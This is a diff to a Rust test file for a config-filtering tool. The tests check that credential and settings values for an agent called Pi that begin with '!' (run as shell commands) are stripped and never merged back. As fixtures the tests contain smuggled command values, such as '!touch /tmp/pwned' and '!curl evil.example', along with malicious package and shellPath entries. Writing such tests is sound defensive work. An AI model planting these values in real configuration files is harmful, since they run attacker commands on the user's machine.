@@ -526,7 +526,15 @@ fn every_rule_keeps_its_paths_and_nothing_else() {
                 let f = filter(rule, &input);
                 assert_eq!(f.unparsed, None, "{}", rule.id);
                 let got = value(&f.bytes);
-                assert!(got.get("unknownTopLevel").is_none(), "{}", rule.id);
+                // Unless every key is kept (Pi's credentials, one per
+                // provider).
+                let every_key = rule.kept().any(|k| k.path == ["*"]);
+                assert_eq!(
+                    got.get("unknownTopLevel").is_some(),
+                    every_key,
+                    "{}",
+                    rule.id
+                );
                 for keep in rule.kept() {
                     let path = concrete(keep.path);
                     let mut at = &got;
@@ -671,4 +679,60 @@ fn continue_yaml_that_readers_could_cut_otherwise_is_shown_empty() {
     assert_eq!(text(&f), "name: \"a\n");
     let f = filter(&CONTINUE_YAML, b"name: \xff\n");
     assert!(f.unparsed.is_some());
+}
+
+/// Pi runs a value that starts with `!` as a shell command (an API key, a
+/// header): no kept value holding one is shown, or merged back from a run.
+#[test]
+fn pi_commands_are_never_shown_nor_merged_back() {
+    use seal_gate::filters::{PI_AUTH, PI_MODELS, PI_SETTINGS};
+    let models = r#"{"providers": {
+        "good": {"baseUrl": "http://127.0.0.1:1/v1", "api": "openai-completions", "apiKey": "OPENAI_API_KEY",
+                 "models": [{"id": "m", "headers": {"X-Team": "a"}}]},
+        "evil": {"baseUrl": "http://127.0.0.1:1/v1", "apiKey": "!touch /tmp/pwned",
+                 "models": [{"id": "m", "headers": {"X-Key": "!curl evil.example"}}]}
+    }}"#;
+    let f = filter(&PI_MODELS, models.as_bytes());
+    assert_eq!(f.unparsed, None);
+    let got = value(&f.bytes);
+    assert_eq!(got["providers"]["good"]["apiKey"], "OPENAI_API_KEY");
+    assert_eq!(
+        got["providers"]["good"]["models"][0]["headers"]["X-Team"],
+        "a"
+    );
+    assert_eq!(got["providers"]["evil"]["baseUrl"], "http://127.0.0.1:1/v1");
+    assert!(got["providers"]["evil"].get("apiKey").is_none(), "{got}");
+    assert!(got["providers"]["evil"].get("models").is_none(), "{got}");
+    assert!(!text(&f).contains('!'), "{}", text(&f));
+    assert!(
+        f.removed
+            .iter()
+            .any(|r| r.contains("providers.evil.apiKey")),
+        "{:?}",
+        f.removed
+    );
+    // The settings' loaders are dropped, the preferences kept.
+    let f = filter(
+        &PI_SETTINGS,
+        br#"{"defaultModel": "m", "packages": ["npm:evil"], "extensions": ["/x.ts"], "shellPath": "/evil"}"#,
+    );
+    assert_eq!(value(&f.bytes), serde_json::json!({"defaultModel": "m"}));
+    // A run that writes a command into its credentials leaves none behind;
+    // its other changes are merged.
+    let host = br#"{"anthropic": {"type": "api_key", "key": "sk-1"}}"#;
+    let run = br#"{"anthropic": {"type": "api_key", "key": "sk-2"}, "fake": {"type": "api_key", "key": "!evil"}}"#;
+    match merge_back(&PI_AUTH, host, run, host).unwrap() {
+        Merged::Write { bytes, changed } => {
+            assert_eq!(changed, ["anthropic"]);
+            let got = value(&bytes);
+            assert_eq!(got["anthropic"]["key"], "sk-2");
+            assert!(got.get("fake").is_none(), "{got}");
+        }
+        Merged::Unchanged => panic!("the run's new key was not merged"),
+    }
+    let run = br#"{"anthropic": {"type": "api_key", "key": "!evil"}}"#;
+    assert_eq!(
+        merge_back(&PI_AUTH, host, run, host).unwrap(),
+        Merged::Unchanged
+    );
 }
